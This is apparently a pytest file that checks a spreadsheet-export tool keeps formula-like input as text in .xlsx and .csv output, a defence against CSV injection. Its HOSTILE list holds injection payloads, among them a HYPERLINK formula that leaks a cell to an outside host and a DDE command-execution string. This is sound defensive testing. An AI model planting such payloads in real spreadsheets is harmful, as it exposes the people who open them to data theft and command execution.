"""No formula from data (issue 21, item 10): text read from input reaches every output as
text. In an .xlsx it is a string cell, never a formula; in a .csv a field starting with a
character that makes a spreadsheet read a formula (OWASP "CSV Injection": = + - @ tab CR)
starts with an apostrophe instead."""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from workbook_helpers import ROOT

from sbt_xl.cli import main

HOSTILE = ["=1+1", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
           "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]
WORDING = "Reduce absolute scope 1 and 2 GHG emissions 42% by 2030 from a 2020 base year"


def _hostile_table(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["company", "note", "text"])
        for h in HOSTILE:
            w.writerow([h, h, WORDING])
        w.writerow(["Plain Co", "a note", h])  # hostile text in the wording column too


def _formulas(path: Path) -> list[bytes]:
    """Every <f> element of every worksheet of the package at ``path``."""
    with zipfile.ZipFile(path) as z:
        return [f for n in z.namelist() if n.startswith("xl/worksheets/")
                for f in re.findall(rb"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>",
                                    z.read(n))]


def test_targets_xlsx_keeps_hostile_text_as_text(tmp_path, capsys):
    source, out = tmp_path / "in.csv", tmp_path / "out.xlsx"
    _hostile_table(source)
    assert main(["targets", str(source), "--text-column", "text", "-o", str(out)]) == 0
    assert _formulas(out) == []
    ws = openpyxl.load_workbook(out)["targets"]
    head = [c.value for c in ws[1]]
    companies = [r[head.index("company")] for r in ws.iter_rows(min_row=2, values_only=True)]
    notes = [r[head.index("note")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert companies[:len(HOSTILE)] == HOSTILE  # exactly as typed, carriage return too
    assert notes[:len(HOSTILE)] == HOSTILE
    assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2) for c in row
               if isinstance(c.value, str))


def test_targets_csv_neutralises_formula_starts(tmp_path, capsys):
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    _hostile_table(source)
    assert main(["targets", str(source), "--text-column", "text", "-o", str(out)]) == 0
    raw = out.read_text(encoding="utf-8-sig")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    head = rows[0]
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    companies = [r[head.index("company")] for r in rows[1:]]
    assert companies[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert companies[len(HOSTILE)] == "Plain Co"  # text that starts otherwise is unchanged
    reductions = {r[head.index("reduction")] for r in rows[1:len(HOSTILE) + 1]}
    assert reductions == {"0.42"}  # numbers are numbers, not neutralised
    # every field quoted (OWASP), so no field can break out of its cell
    assert all(rec.startswith('"') for rec in raw.split("\r\n") if rec)


@pytest.mark.parametrize("out_name", ["out.xlsx", "out.csv"])
def test_targets_reads_hostile_xlsx_input_as_text(tmp_path, capsys, out_name):
    """An .xlsx table holding the formula-like text as strings (what a peer's export has)."""
    source = tmp_path / "in.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["company", "text"])
    for r, h in enumerate(HOSTILE, start=2):
        ws.cell(r, 1).value = h
        ws.cell(r, 1).data_type = "s"  # a string cell, as Excel keeps text typed after '
        ws.cell(r, 2).value = WORDING
    wb.save(source)
    out = tmp_path / out_name
    assert main(["targets", str(source), "--text-column", "text", "-o", str(out)]) == 0
    if out_name.endswith(".xlsx"):
        assert _formulas(out) == []
    else:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]


def test_upgrade_keeps_formula_like_text_as_text(tmp_path, capsys):
    """A value typed as text in the old workbook (``=1+1`` after an apostrophe) stays text
    in the upgraded one, on its field and on the sheet of values without a home."""
    from sbt_xl.workbook.template.layout import fields_by_key
    old = tmp_path / "old.xlsx"
    shutil.copy(ROOT / "tests" / "data" / "template_v1" / "example_pass_en.xlsx", old)
    wb = openpyxl.load_workbook(old)
    name = fields_by_key()["company.name"].name
    sheet, ref = next(iter(wb.defined_names[name].destinations))
    cell = wb[sheet][ref.replace("$", "")]
    cell.value = HOSTILE[1]
    cell.data_type = "s"
    wb.save(old)
    out = tmp_path / "new.xlsx"
    assert main(["upgrade", str(old), "-o", str(out)]) == 0
    new = openpyxl.load_workbook(out)
    sheet, ref = next(iter(new.defined_names[name].destinations))
    moved = new[sheet][ref.replace("$", "")]
    assert moved.value == HOSTILE[1] and moved.data_type == "s"
